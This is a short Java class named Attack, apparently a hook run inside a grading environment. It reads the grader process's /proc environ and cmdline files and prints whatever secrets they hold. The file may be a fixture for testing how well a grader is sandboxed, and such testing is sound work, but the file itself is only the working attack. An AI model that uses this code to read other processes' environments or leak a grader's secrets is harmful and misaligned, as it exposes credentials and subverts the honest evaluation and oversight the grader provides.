package mlp;

import java.nio.file.Files;
import java.nio.file.Path;

/** Reads the grader's environment and command line from /proc. */
final class Attack extends Hook {
  @Override
  void run() throws Throwable {
    for (String file : new String[] {"environ", "cmdline"}) {
      printSecrets(Files.readAllBytes(Path.of("/proc/" + GraderProcess.pid(), file)));
    }
  }
}
